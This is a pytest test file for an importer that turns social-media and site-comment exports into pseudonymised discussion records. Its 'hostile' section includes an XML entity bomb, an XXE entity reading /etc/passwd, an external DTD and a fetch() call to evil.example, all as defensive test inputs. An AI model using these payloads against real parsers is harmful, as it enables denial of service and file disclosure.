"""Exports of every platform become exactly the records that are expected, and what is hostile becomes a clear error."""

from __future__ import annotations

import json
import os
import re
from datetime import timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from click.testing import CliRunner, Result

import zoo_keeper
from casebuilder import pipeline
from casebuilder.cli import main
from casebuilder.editorial.discussion import IMPORTERS
from cputime import at_most

if TYPE_CHECKING:
    from collections.abc import Sequence

EXPORTS = Path(__file__).parent / "exports"
CLUB = "2026-04-paper-club"
RECORD = f"commentary/{CLUB}/discussion.jsonl"
KEYS = ("author_key", "key_id", "post_key")


@pytest.fixture
def series(tmp_path: Path) -> Path:
    return zoo_keeper.lay_out("_sound", tmp_path)


def imported(series: Path, *arguments: Path | str, secret: str = "long word") -> Result:  # noqa: S107 - of a test
    command = ["discussion", "import", CLUB, *map(str, arguments), "--series", str(series)]
    result = CliRunner().invoke(main, command, env={"CASEBUILDER_SECRET": secret})
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def output_of(result: Result) -> str:
    """What is said on the terminal, without the lines that click draws."""
    return " ".join(re.sub(r"[│╭╮╰╯─]", " ", result.output).split())


def record(series: Path) -> list[dict[str, Any]]:
    place = series / RECORD
    return [json.loads(line) for line in place.read_text(encoding="utf-8").splitlines()] if place.exists() else []


def bare(lines: Sequence[dict[str, Any]]) -> list[dict[str, Any]]:
    return [{name: value for name, value in line.items() if name not in KEYS} for line in lines]


def sources(folder: Path) -> list[Path]:
    return sorted(path for path in folder.iterdir() if path.name not in {"expected.jsonl", "notes.txt"})


def written(series: Path, name: str, content: str | bytes | object) -> Path:
    place = series.parent / name
    if isinstance(content, bytes):
        place.write_bytes(content)
    else:
        place.write_text(content if isinstance(content, str) else json.dumps(content), encoding="utf-8")
    return place


# --- every format


@pytest.mark.parametrize(
    "folder", sorted(path for path in EXPORTS.iterdir() if path.is_dir()), ids=lambda path: path.name
)
def test_an_export_becomes_exactly_the_record_that_is_expected(series: Path, folder: Path) -> None:
    result = imported(series, *sources(folder))
    if os.environ.get("CASEBUILDER_WRITE_EXPECTED"):  # then look at the difference
        lines = (json.dumps(line, ensure_ascii=False) for line in bare(record(series)))
        (folder / "expected.jsonl").write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
        (folder / "notes.txt").write_text(result.stderr, encoding="utf-8")
    expected = (folder / "expected.jsonl").read_text(encoding="utf-8").splitlines()
    assert bare(record(series)) == [json.loads(line) for line in expected]
    assert result.stderr == (folder / "notes.txt").read_text(encoding="utf-8")
    assert all(line["key_id"] and line["author_key"] and line["post_key"] for line in record(series))
    codes = {problem.code for problem in pipeline.read(series).problems if problem.path == RECORD}
    assert codes == ({"outside-discussion"} if folder.name in {"wordpress-1.0", "x-api"} else set())  # of other years


#: The authors of the exports: names, handles, addresses of mail and of machines, and addresses of posts.
TRACES = (
    "Holm", "Ολυμπία", "ward.example>", "@ward.example", "@Ward.example", "203.0.113", "2001:db8", "198.51.100",
    "ida_h", "gravatar", "@ida", "@ole", "social.example", "other.example", "third.example", "bsky.social",
    "did:plc", "ole.example", "@series", "oleg", "Олег", "github.com/o/r/discussions", "unknown-one", "1776900000",
    "1900000000", "x.com/", "twitter.com", "佐藤", "ليلى", "layla",
)  # fmt: skip


@pytest.mark.parametrize(
    "folder", sorted(path for path in EXPORTS.iterdir() if path.is_dir()), ids=lambda path: path.name
)
def test_no_trace_of_an_author_is_in_the_record_and_none_of_mail_or_machine_in_any_file(
    series: Path, folder: Path
) -> None:
    imported(series, *sources(folder))
    text = (series / RECORD).read_text(encoding="utf-8")
    assert [trace for trace in TRACES if trace in text] == []
    people = (series / ".casebuilder/people.jsonl").read_text(encoding="utf-8")
    assert not re.search(r"[\w.]+@ward\.example|203\.0\.113|2001:db8|198\.51\.100|gravatar", people, re.IGNORECASE)


@pytest.mark.parametrize(
    "folder", sorted(path for path in EXPORTS.iterdir() if path.is_dir()), ids=lambda path: path.name
)
def test_what_was_taken_back_comes_back_from_no_importer(
    series: Path, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("CASEBUILDER_CACHE")  # whose packs would be deleted
    imported(series, *sources(folder))
    before = record(series)
    gone = before[-1]
    words = ["withdraw", CLUB, "--contribution", gone["id"], "--series", str(series)]
    assert CliRunner().invoke(main, words).exit_code == 0
    after = (series / RECORD).read_bytes()
    result = imported(series, *sources(folder))
    assert f"0 added, {len(before)} already in the record" in result.stderr
    assert (series / RECORD).read_bytes() == after
    assert [line["text"] for line in record(series) if line["id"] == gone["id"]] == [""]


def test_words_that_were_taken_back_come_back_in_no_repost_and_no_quotation(
    series: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("CASEBUILDER_CACHE")  # whose packs would be deleted
    words = "I should not have said that about the night in June."
    imported(series, written(series, "m.json", [status(1, content=words)]))
    assert CliRunner().invoke(main, ["withdraw", CLUB, "--contribution", "c01", "--series", str(series)]).exit_code == 0
    edited = status(1, content=f"{words} Or should I?", edited_at="2026-04-08T09:00:00Z")
    boost = status(2, content="", reblog=status(1, content=words))
    quote = status(3, content="Look.", quote={"quoted_status": status(1, content=words)})
    result = imported(series, written(series, "n.json", [edited, boost, quote, status(4, content="Thank you.")]))
    assert "left out: 2 posts with words that were withdrawn" in result.stderr
    assert [line["text"] for line in record(series)] == ["", "Thank you."]


def test_several_networks_come_in_at_once_and_in_the_order_of_time(series: Path) -> None:
    result = imported(
        series, *(path for name in ("mastodon", "bluesky", "wordpress") for path in sources(EXPORTS / name))
    )
    assert result.exit_code == 0
    lines = record(series)
    assert {line["channel"] for line in lines} == {"mastodon", "bluesky", "site"}
    assert [line["id"] for line in lines] == [f"c{number:02}" for number in range(1, len(lines) + 1)]
    assert len({line["author"] for line in lines}) == 10


def test_posts_from_before_the_case_are_counted(series: Path) -> None:
    rows = [f"A{day},2026-{day}T09:00:00Z,Words {day}." for day in ("03-01", "03-02", "04-30")]
    file = series.parent / "table.csv"
    file.write_text("\n".join(("author,posted,text", *rows)), encoding="utf-8")
    opens = pipeline.read(series).series.cases[1].opens
    early = sum(row.split(",")[1][:10] < f"{opens - timedelta(days=1):%Y-%m-%d}" for row in rows)
    result = imported(series, file, "--channel", "email")
    posts = "1 post was" if early == 1 else f"{early} posts were"
    assert f"{posts} written before the case opens ({opens:%Y-%m-%d}), the first on 2026-03-01" in result.stderr


def test_names_are_kept_with_an_option(series: Path) -> None:
    assert imported(series, *sources(EXPORTS / "mastodon"), "--names", "keep").exit_code == 0
    first, second, third, *_ = record(series)
    assert (first["author"], first["url"]) == ("Teaching Dilemmas", "https://social.example/@series/500")
    assert "@series@social.example We rang" in second["text"]
    assert "@ida@other.example @ida@third.example I ask that" in third["text"]


def test_a_second_import_adds_what_is_new_and_keeps_what_a_curator_wrote(series: Path) -> None:
    first, *_ = pipeline.read(series).series.cases[1].questions
    thread = json.loads((EXPORTS / "bluesky/thread.json").read_text(encoding="utf-8"))
    replies = thread["thread"]["replies"]
    thread["thread"]["replies"] = []
    imported(series, written(series, "a.json", thread))
    (line,) = record(series)
    kept = json.dumps({**line, "question": first.id, "role": "nurse", "country": "DK"}, ensure_ascii=False)
    (series / RECORD).write_text(f"{kept}\n", encoding="utf-8")
    thread["thread"]["replies"] = replies
    result = imported(series, written(series, "a.json", thread))
    assert "2 added, 1 already in the record" in result.stderr
    lines = (series / RECORD).read_text(encoding="utf-8").splitlines()
    assert lines[0] == kept
    assert [(one["id"], one.get("in_reply_to")) for one in record(series)] == [
        ("c01", None),
        ("c02", "c01"),
        ("c03", "c02"),
    ]


def test_a_context_that_comes_later_finds_the_post_that_it_answers(series: Path) -> None:
    imported(series, EXPORTS / "mastodon/status.json")
    imported(series, EXPORTS / "mastodon/context.json")
    assert record(series)[1]["in_reply_to"] == "c01"


def test_one_thread_of_a_whole_site_is_chosen_by_its_title_or_address(series: Path) -> None:
    text = (EXPORTS / "wordpress/export.xml").read_text(encoding="utf-8")
    item = text[text.index("\t<item>") : text.index("</item>") + 7]
    other = item.replace("late-handover", "other").replace("The Late Handover", "Another").replace(">57<", ">58<")
    file = written(series, "site.xml", text.replace("</channel>", f"{other}</channel>"))
    assert "comments below 2 pages were read: “The Late Handover”, “Another”" in imported(series, file).stderr
    assert len(record(series)) == 6
    (series / RECORD).unlink()
    assert imported(series, file, "--thread", "late handover").exit_code == 0
    assert len(record(series)) == 3
    assert 'no page has "nothing such"' in output_of(imported(series, file, "--thread", "nothing such"))


# --- shapes


def status(number: int, parent: int | None = None, **changes: object) -> dict[str, object]:
    name, display = changes.pop("name", f"u{number}"), changes.pop("display", "")
    return {
        "id": str(number),
        "created_at": f"2026-04-07T09:{number % 60:02}:00.000Z",
        "in_reply_to_id": None if parent is None else str(parent),
        "visibility": "public",
        "uri": f"https://s.example/users/{name}/statuses/{number}",
        "url": f"https://s.example/@{name}/{number}",
        "content": f"<p>Post {number}</p>",
        "account": {"username": name, "acct": name, "display_name": display, "url": f"https://s.example/@{name}"},
        **changes,
    }


def node(number: int, replies: list[Any]) -> dict[str, Any]:
    """A post of Bluesky that answers the one before it, and its replies."""
    record: dict[str, Any] = {"text": f"Post {number}"}
    record["createdAt"] = f"2026-04-07T{number // 60:02}:{number % 60:02}:00Z"
    if number > 1:
        record["reply"] = {"parent": {"uri": f"at://did:plc:{number - 1}/app.bsky.feed.post/{number - 1}"}}
    post = {
        "uri": f"at://did:plc:{number}/app.bsky.feed.post/{number}",
        "author": {"did": f"did:plc:{number}", "handle": f"u{number}.example"},
        "record": record,
    }
    return {"$type": "app.bsky.feed.defs#threadViewPost", "post": post, "replies": replies}


def test_threads_of_twenty_and_of_two_hundred_replies_keep_their_parents(series: Path) -> None:
    chain = [status(number, number - 1 if number else None) for number in range(20)]
    assert imported(series, written(series, "m.json", chain)).exit_code == 0
    assert [line.get("in_reply_to") for line in record(series)] == [None, *(f"c{n:02}" for n in range(1, 20))]
    (series / RECORD).unlink()
    top: list[Any] = []
    for number in range(200, 0, -1):
        top = [node(number, top)]
    assert imported(series, written(series, "b.json", {"thread": top[0]})).exit_code == 0
    assert [line.get("in_reply_to") for line in record(series)] == [None, *(f"c{n:02}" for n in range(1, 200))]


@pytest.mark.parametrize(
    "date",
    ["2026-04-07T09:12:00Z", "2026-04-07T09:12:00.123Z", "2026-04-07T09:12:00.123456789Z", "2026-04-07T11:12:00+02:00",
     "2026-04-07 09:12:00 UTC", "Tue, 07 Apr 2026 09:12:00 +0000", "Tue Apr 07 09:12:00 +0000 2026",
     "2026-04-07T04:12:00-05:00", "20260407T091200Z", "Apr 7, 2026, 9:12:00 AM UTC", "7 April 2026 09:12 GMT",
     "2026-04-07T09:12Z"],
)  # fmt: skip
def test_dates_in_twelve_shapes_are_one_instant(series: Path, date: str) -> None:
    result = imported(series, written(series, "m.json", [status(1, created_at=date)]))
    assert result.exit_code == 0, result.output
    from datetime import UTC, datetime

    moment = datetime.fromisoformat(record(series)[0]["posted"])
    assert moment.astimezone(UTC) == datetime(2026, 4, 7, 9, 12, tzinfo=UTC)


def test_one_bad_record_is_reported_with_its_place_and_the_others_come_in(series: Path) -> None:
    posts = [status(1), status(2, created_at="last week"), status(3, content=""), status(4, 2)]
    file = written(series, "m.json", json.dumps(posts, indent=1))
    result = imported(series, file)
    assert result.exit_code == 1
    assert "1 left out" not in result.stderr
    assert "2 added, 0 already in the record, 2 skipped" in result.stderr
    places = re.findall(r"^m\.json:(\d+):1: error: (.*) \[", result.stdout, re.MULTILINE)
    lines = file.read_text().splitlines()
    assert [lines[int(line) - 1].strip() for line, _ in places] == ['"id": "2",', '"id": "3",']
    assert [message for _, message in places] == ['"2": "last week" is not a date', '"3": the post has no text']
    assert [(line["text"], line["kind"], line.get("in_reply_to")) for line in record(series)] == [
        ("Post 1", "original", None),
        ("Post 4", "reply", None),
    ]


def test_marks_that_turn_the_line_and_invisible_ones_are_gone_and_emoji_stay(series: Path) -> None:
    turned = status(1, content="<p>abc\u202edef\u2066 \u0000👩‍⚕️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 שלום\u200f!</p>")
    turned["account"] = {
        "username": "a\u202eb",
        "acct": "ab",
        "display_name": "A\u202e\x07B",
        "url": "https://s.example/@ab",
    }
    assert imported(series, written(series, "m.json", [turned]), "--names", "keep").exit_code == 0
    (line,) = record(series)
    assert (line["author"], line["text"]) == ("AB", "abcdef 👩‍⚕️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 שלום\u200f!")


def test_the_same_post_from_a_table_and_from_its_network_comes_in_once(series: Path) -> None:
    words = "We rang because nobody had told us that we could."
    table = f'author,address,posted,text,channel\nIda,@u1@s.example,2026-04-07T09:01:00Z,"{words}",mastodon\n'
    file = written(series, "m.json", [status(1, content=f"<p>{words}</p>")])
    assert imported(series, written(series, "t.csv", table), file).exit_code == 0
    assert len(record(series)) == 1
    assert record(series)[0]["post_key"]


def test_the_contact_of_the_series_may_be_in_a_text_and_no_other_address(series: Path) -> None:
    with (series / "mkdocs.yml").open("a", encoding="utf-8") as configuration:
        configuration.write("      contact: editors@small.example\n")
    words = "Write to Editors@small.example, not to ida.holm+x@ward.example or uma\uff20ward.example; "
    words += "https://x.example/?m=a%40b.example"
    assert imported(series, written(series, "m.json", [status(1, content=words)])).exit_code == 0
    assert record(series)[0]["text"] == (
        "Write to Editors@small.example, not to [e-mail address] or [e-mail address]; "
        "https://x.example/?m=[e-mail address]"
    )
    assert not [problem for problem in pipeline.read(series).errors() if problem.path == RECORD]


def test_somebody_who_is_named_first_and_writes_later_is_one_person(series: Path) -> None:
    named = status(1, content="Ask @uma@s.example and @someone@else.example. 2 mg @night.", name="ida")
    imported(series, written(series, "m.json", [named]))
    assert record(series)[0]["text"] == "Ask Participant 2 and Participant 3. 2 mg @night."
    imported(series, written(series, "n.json", [status(2, name="new"), status(3, name="uma")]))
    assert [line["author"] for line in record(series)] == ["Participant 1", "Participant 4", "Participant 2"]


def test_two_who_leave_no_name_are_not_one_person(series: Path) -> None:
    text = (EXPORTS / "wordpress/export.xml").read_text(encoding="utf-8")
    text = re.sub(r"<wp:comment_author>.*?</wp:comment_author>", "<wp:comment_author/>", text)
    text = re.sub(r"<wp:comment_author_email>.*?</wp:comment_author_email>", "", text)
    assert imported(series, written(series, "w.xml", text)).exit_code == 0
    assert [line["author"] for line in record(series)] == ["Participant 1", "Participant 2", "Participant 3"]


def test_a_handle_in_code_is_a_sign_like_others(series: Path) -> None:
    text = (EXPORTS / "github/discussion.json").read_text(encoding="utf-8").replace("if a <b> c", "@decorator")
    imported(series, written(series, "g.json", text))
    assert "```\n@decorator\n```" in record(series)[1]["text"]


@pytest.mark.parametrize(
    "created",
    ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00", "2026-02-30T00:00:00Z", "2026-04-07T25:00:00Z", None, "soon"],
)
def test_a_post_of_no_possible_date_is_skipped_and_counted(series: Path, created: object) -> None:
    posts = [status(1, created_at=created), status(2), status(3, created_at=created)]
    result = imported(series, written(series, "m.json", posts))
    assert result.exit_code == 1
    assert result.stderr == "1 added, 0 already in the record, 2 skipped\n"
    assert [line["text"] for line in record(series)] == ["Post 2"]


@pytest.mark.parametrize(
    ("written_as", "posted"),
    [
        ("2026-04-28T09:12:33.123456789Z", "2026-04-28T09:12:33+00:00"),
        ("20260428T091233Z", "2026-04-28T09:12:33+00:00"),
        ("20260428T0912+0200", "2026-04-28T09:12:00+02:00"),
        ("1777363953", "2026-04-28T08:12:33+00:00"),
        ("1777363953000", "2026-04-28T08:12:33+00:00"),
        ("Tue Apr 28 09:12:33 +0000 2026", "2026-04-28T09:12:33+00:00"),
        ("Tue, 28 Apr 2026 09:12:33 GMT", "2026-04-28T09:12:33+00:00"),
        ("28. April 2026, 09:12 Uhr", "2026-04-28T09:12:00+01:00"),
        ("28 апреля 2026 г., 09:12", "2026-04-28T09:12:00+01:00"),  # noqa: RUF001 - Cyrillic letters
        ("28 квітня 2026 року", "2026-04-28T00:00:00+01:00"),
        ("28/04/2026 09:12 hrs", "2026-04-28T09:12:00+01:00"),
        ("2026年4月28日 上午9:12", "2026-04-28T09:12:00+01:00"),
        ("٢٨/٠٤/٢٠٢٦", "2026-04-28T00:00:00+01:00"),
    ],
)
def test_dates_in_a_dozen_shapes_are_one_moment(series: Path, written_as: str, posted: str) -> None:
    table = f'author,posted,text\nIda,"{written_as}",Hm.\n'
    assert imported(series, written(series, "t.csv", table), "--channel", "site").exit_code == 0
    assert record(series)[0]["posted"] == posted


def test_a_quoted_post_comes_in_once_and_earlier_versions_are_no_posts(series: Path) -> None:
    inline = '<p class="quote-inline">RE: <a href="https://s.example/@ida/9">https://s.example/@ida/9</a></p><p>Yes</p>'
    quoting = status(1, content=inline, quote={"state": "accepted", "quoted_status": status(9, content="<p>No</p>")})
    versions = {"content": "<p>v1</p>", "created_at": "2026-04-07T09:00:00Z", "account": status(1)["account"]}
    result = imported(series, written(series, "m.json", [quoting, versions, {"error": "Record not found"}]))
    assert "left out: 2 that are not posts, such as an error of the server" in result.stderr
    assert [line["text"] for line in record(series)] == ["Yes\n\n[Quoted post by Participant 2: No]"]


def test_a_link_whose_bytes_cut_a_letter_in_two_is_passed_over(series: Path) -> None:
    post = node(1, [])
    link = {"$type": "app.bsky.richtext.facet#link", "uri": "https://a.example/x"}
    facets = [{"index": {"byteStart": start, "byteEnd": end}, "features": [link]} for start, end in ((2, 3), (4, 8))]
    post["post"]["record"] |= {"text": "né link", "facets": facets}
    imported(series, written(series, "b.json", {"thread": post}))
    assert record(series)[0]["text"] == "né link (https://a.example/x)"


def test_a_poll_on_github_has_its_result(series: Path) -> None:
    answer = json.loads((EXPORTS / "github/discussion.json").read_text(encoding="utf-8"))
    options = [{"option": "Ring", "totalVoteCount": 9}, {"option": "Wait", "totalVoteCount": 1}]
    poll = {"question": "Ring?", "totalVoteCount": 10, "options": {"nodes": options}}
    next(iter(answer["data"].values()))["discussion"]["poll"] = poll
    imported(series, written(series, "g.json", answer))
    assert "Ring?\n\n[Poll: Ring (9 votes), Wait (1 vote); 10 voted]" in record(series)[0]["text"]


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        ({"data": None, "errors": [{"message": "Could not resolve to a Discussion"}]}, "Could not resolve to a Disc"),
        ({"error": "This method requires an authenticated user"}, "This method requires an authenticated user"),
        (
            {"errors": ["The requested URL or resource could not be found."], "error_type": "not_found"},
            "The requested URL",
        ),
        ({"message": "Bad credentials", "status": "401"}, "Bad credentials"),
    ],
)
def test_the_error_of_a_network_is_named(series: Path, answer: object, said: str) -> None:
    result = imported(series, written(series, "a.json", answer))
    assert (result.exit_code, record(series)) == (2, [])
    assert f"It is an error: {said}" in output_of(result)


def test_a_broken_address_stops_no_import(series: Path) -> None:
    broken = "https://[::1"
    account = {"username": "ida", "acct": "ida", "url": broken}
    content = f'<p>See <a href="{broken}">it</a> and {broken}/@ida</p>'
    posts = [status(1, account=account, uri=broken, url=broken, content=content), status(2)]
    assert imported(series, written(series, "m.json", posts)).exit_code == 0
    assert [line["text"] for line in record(series)] == [f"See it and {broken}/@ida", "Post 2"]


def test_a_name_in_html_is_a_name(series: Path) -> None:
    text = (EXPORTS / "wordpress/export.xml").read_text(encoding="utf-8")
    assert "<![CDATA[Ida Holm]]>" in text
    imported(series, written(series, "w.xml", text.replace("<![CDATA[Ida Holm]]>", "<![CDATA[Pat O&#8217;Brien]]>")))
    people = (series / ".casebuilder/people.jsonl").read_text(encoding="utf-8")
    assert "Pat O’Brien" in people


def test_the_words_of_a_post_that_was_edited_after_its_import_are_taken_over(series: Path) -> None:
    first = written(series, "first.json", [status(1), status(2)])
    imported(series, first)
    before = record(series)
    later = [
        status(1, content="Other words.", edited_at="2026-04-08T09:00:00Z"),
        status(2, edited_at="2026-04-08T09:00:00Z"),
    ]
    result = imported(series, written(series, "m.json", later))
    assert result.stderr == (
        "edited since they were imported, and taken over: c01\n"
        "0 added, 2 already in the record, 1 of them with newer words now\n"
    )
    assert [line["text"] for line in record(series)] == ["Other words.", "Post 2"]
    assert bare(record(series))[1:] == bare(before)[1:]
    after = record(series)
    for file in (first, series.parent / "m.json"):  # an older copy brings nothing back
        assert imported(series, file).stderr == "0 added, 2 already in the record\n"
    assert record(series) == after


def test_an_edit_of_words_that_a_quote_has_is_reported_and_left(series: Path) -> None:
    imported(series, written(series, "m.json", [status(1, content="Nobody rang."), status(2)]))
    quotes = "- {id: q1, text: Nobody rang., mode: anonymous, consent: {state: pending}, source: {contribution: c01}}\n"
    (series / f"cases/{CLUB}/quotes.yml").write_text(quotes, encoding="utf-8")
    left = written(series, "m.json", [status(1, content="Somebody rang."), status(2, content="Post two")])
    result = imported(series, left)
    assert "left as they are in the record, because quotes have the old words: c01 (q1)" in result.stderr
    assert [line["text"] for line in record(series)] == ["Nobody rang.", "Post two"]
    imported(series, written(series, "m.json", [status(1, content="Nobody rang. (Edit: somebody wrote.)")]))
    assert record(series)[0]["text"] == "Nobody rang. (Edit: somebody wrote.)"


def test_words_that_a_curator_changed_in_the_record_stay(series: Path) -> None:
    imported(series, written(series, "m.json", [status(1), status(2, content="About Mr Ames in bed 4.")]))
    place = series / RECORD
    place.write_text(place.read_text(encoding="utf-8").replace("Mr Ames in bed 4", "a patient"), encoding="utf-8")
    assert imported(series, series.parent / "m.json").stderr == "0 added, 2 already in the record\n"
    edited = [status(2, content="About Mr Ames in bed 4!", edited_at="2026-04-08T09:00:00Z")]
    result = imported(series, written(series, "m.json", edited))
    assert "which somebody changed or an older version of casebuilder wrote; left as they are: c02" in result.stderr
    assert record(series)[1]["text"] == "About a patient."


def test_an_edit_brings_no_withdrawn_words_back(series: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CASEBUILDER_CACHE")
    words = "The consultant said on the phone that nobody must write this down at all."
    imported(series, written(series, "m.json", [status(1, content=words), status(2)]))
    order = ["withdraw", CLUB, "--contribution", "c01", "--series", str(series)]
    assert CliRunner().invoke(main, order).exit_code == 0
    imported(series, written(series, "m.json", [status(2, content=f"As was said: {words}")]))
    assert [line["text"] for line in record(series)] == ["", "Post 2"]


@pytest.mark.parametrize(
    ("shown", "said", "recorded"),
    [
        ("Ida Holm", "I agree with Ida Holm’s point.", "I agree with Participant 1’s point."),
        ("Ida Holm", "thank you ida  holm", "thank you Participant 1"),
        ("Ida Holm", "Idaho Holmes is nobody.", "Idaho Holmes is nobody."),
        ("Dr. Ida Holm, MD 🌻 (she/her)", "As Dr Ida Holm wrote", "As Dr Participant 1 wrote"),
        ("Holm, Ida", "Ida Holm is right.", "Participant 1 is right."),
        ("José Álvarez", "thanks Jose Alvarez!", "thanks Participant 1!"),
        ("Jose\u0301 A\u0301lvarez", "gracias, José Álvarez", "gracias, Participant 1"),
        ("Dr Okoye", "Dr. Okoye asked.", "Participant 1 asked."),
        ("MiaTheMedic", "miathemedic was there", "Participant 1 was there"),
        ("mia_rn_7", "ask mia_rn_7.", "ask Participant 1."),
        ("田中太郎", "田中太郎さんに賛成です。", "Participant 1さんに賛成です。"),
        ("عائشة الخطيب", "قالت عائشة الخطيب ذلك", "قالت Participant 1 ذلك"),
        ("Pat O’Brien", "Pat O'Brien said so", "Participant 1 said so"),
        ("Ana de la Cruz", "ANA DE LA CRUZ!", "Participant 1!"),
        ("Anna", "Anna Karenina by night", "Anna Karenina by night"),
        ("Night Nurse", "the night nurse and a Night Nurse", "the night nurse and a Night Nurse"),
        ("A resident", "a resident said", "a resident said"),
        ("Night Owl", "I am a night owl", "I am a night owl"),
    ],
)
def test_a_name_that_a_participant_shows_is_replaced_in_sentences(
    series: Path, shown: str, said: str, recorded: str
) -> None:
    rows = [{"author": shown, "posted": "2026-04-07T09:00:00Z", "text": "First."},
            {"author": "Ole", "posted": "2026-04-07T09:01:00Z", "text": said}]  # fmt: skip
    table = "author,posted,text\n" + "".join(
        ",".join(f'"{row[name]}"' for name in ("author", "posted", "text")) + "\n" for row in rows
    )
    imported(series, written(series, "t.csv", table), "--channel", "site")
    assert record(series)[1]["text"] == recorded


def test_a_name_of_two_people_is_replaced_by_no_pseudonym_and_kept_names_stay(series: Path) -> None:
    posts = [
        status(1, name="ida1", display="Ida Holm"), status(2, name="ida2", display="ida holm"),
        status(3, content="Ida Holm, which of you?"),
    ]  # fmt: skip
    imported(series, written(series, "m.json", posts))
    assert record(series)[2]["text"] == "[name of a participant], which of you?"
    (series / RECORD).unlink()
    imported(series, written(series, "m.json", posts), "--names", "keep")
    assert record(series)[2]["text"] == "Ida Holm, which of you?"


def test_a_name_of_an_earlier_round_is_known(series: Path) -> None:
    imported(series, written(series, "m.json", [status(1, name="ida", display="Ida Holm")]))
    imported(series, written(series, "m.json", [status(2, content="Where is Ida Holm today?")]))
    assert record(series)[1]["text"] == "Where is Participant 1 today?"


def test_the_second_form_of_a_thread_of_bluesky(series: Path) -> None:
    views = [node(number, []) for number in (1, 2)]
    thread = [{"depth": depth, "value": view} for depth, view in enumerate(views)]
    imported(series, written(series, "b.json", {"thread": thread, "hasOtherReplies": False}))
    assert [line["text"] for line in record(series)] == ["Post 1", "Post 2"]


# --- what is hostile


XML = '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel/></rss>'
BOMB = "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};">' for n in range(1, 30))


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("x.xml", f'<!DOCTYPE r [<!ENTITY a0 "ha">{BOMB}]>{XML}', "declares a document type or entities"),
        ("x.xml", f'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>{XML}', "declares a document type"),
        ("x.xml", f'<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">{XML}', "declares a document type or entities"),
        ("x.xml", XML.replace("<channel/>", "<channel>" + "<a>" * 10_000), "nested elements"),
        ("x.xml", XML.replace("</rss>", ""), "this XML is incomplete"),
        ("x.xml", XML.replace("<channel/>", "<channel>&nbsp;</channel>"), "this XML is incomplete"),
        ("x.json", "[" * 10_000, "more than 600 nested lists"),
        ("x.json", '{"ancestors": ' + "[" * 10_000 + "]" * 10_000 + "}", "more than 600 nested lists"),
        ("x.json", '{"a":' * 10_000, "more than 600 nested lists"),
        ("x.json", '{"id": ' + "1" * 5_000 + "}", "not JSON as programs write it"),
        ("x.json", '{"id": NaN}', "not JSON as programs write it"),
        ("x.json", '{"ancestors": [], "descendants": [{"id": "1"', "ends in the middle"),
        ("x.json", '{"errors": [{"message": "Bad credentials"}]}', "with the names errors"),
        ("x.json", "[]", "with nothing in it"),
        ("x.js", "window.YTD.deleted_tweets.part0 = []", "the part “deleted_tweets” of an archive of X"),
        ("x.js", "window.YTD.tweets.part0 = alert(1)", "window.YTD.tweets is not a list of posts"),
        ("x.txt", "It was seven minutes past five.\nThen six.", "that no importer knows, and begins with “It was"),
        ("x.html", "<!DOCTYPE html><html><body>Hi</body></html>", "XML or HTML that no importer knows"),
        ("x.bin", b"\x1f\x8b\x08", "a compressed file; unpack it first"),
        ("x.json", '{"a": "é"}'.encode("cp1252") + b"\x81", "its letters cannot be read"),
        ("x.json", '{"a": 1}'.encode("utf-16"), "with the names a"),
    ],
)  # fmt: skip
def test_what_is_hostile_or_broken_gives_a_clear_error(
    series: Path, name: str, content: str | bytes, message: str
) -> None:
    with at_most(3):
        result = imported(series, written(series, name, content))
        assert (result.exit_code, record(series)) == (2, [])
        assert message in output_of(result)


def test_a_huge_line_is_a_problem_of_its_post_alone(series: Path) -> None:
    deep = [status(3 + n, content=tag * 50_000 + "x") for n, tag in enumerate(("<b>", "<div>", "<ul><li>"))]
    posts = [status(1), status(2, content="<p>" + "word " * 20_000 + "</p>"), *deep]
    result = imported(series, written(series, "m.json", posts))
    assert "the post has 99,999 characters; at most 66,000 are read" in result.stdout
    assert [line["text"] for line in record(series)] == ["Post 1", "x", "x", "x"]
    assert not pipeline.read(series).errors()


def test_other_encodings_are_read_and_reported(series: Path) -> None:
    text = (EXPORTS / "wordpress-1.0/export.xml").read_text(encoding="utf-8").replace("Second", "Naïve")
    assert imported(series, written(series, "a.xml", text.encode("utf-16"))).exit_code == 0
    assert record(series)[0]["text"].endswith("Naïve line.")
    (series / RECORD).unlink()
    result = imported(series, written(series, "a.xml", text.encode("cp1252")))
    assert "read as windows-1252" in result.stderr
    assert record(series)[0]["text"].endswith("Naïve line.")


def test_xml_is_read_as_it_says_that_it_is_written(series: Path) -> None:
    text = (EXPORTS / "wordpress-1.0/export.xml").read_text(encoding="utf-8").replace("Second line", "Привет")
    text = text.replace('<?xml version="1.0"?>', "<?xml version='1.0' encoding='koi8-r'?>")
    assert imported(series, written(series, "a.xml", text.encode("koi8-r"))).exit_code == 0
    assert record(series)[0]["text"].endswith("Привет.")


def test_an_archive_of_x_is_never_run(series: Path) -> None:
    text = (EXPORTS / "x-archive/tweets.js").read_text(encoding="utf-8")
    result = imported(series, written(series, "t.js", f"{text};fetch('http://evil.example')"))
    assert "not JSON as programs write it" in result.stdout
    assert len(record(series)) == 3


@pytest.mark.parametrize("name", ["mastodon", "table"])
def test_five_thousand_contributions_are_imported_quickly(series: Path, name: str) -> None:
    """The goal is three seconds of a whole command; other formats are timed by the bench."""
    words = "the handover was late and nobody rang because ringing costs " * 6
    posts = [status(n, n // 2 or None, content=f"<p>{words} {n}</p>", name=f"u{n % 900}") for n in range(1, 5_001)]
    rows = "".join(f"U{n % 900},2026-04-07T09:{n % 60:02}:00Z,{words} {n}\n" for n in range(5_000))
    content = posts if name == "mastodon" else f"author,posted,text\n{rows}"
    file = written(series, f"{name}.txt", content)
    with at_most(6):
        assert imported(series, file, "--channel", "site").exit_code == 0
    assert len(record(series)) == 5_000


def test_the_table_of_importers_names_each_once() -> None:
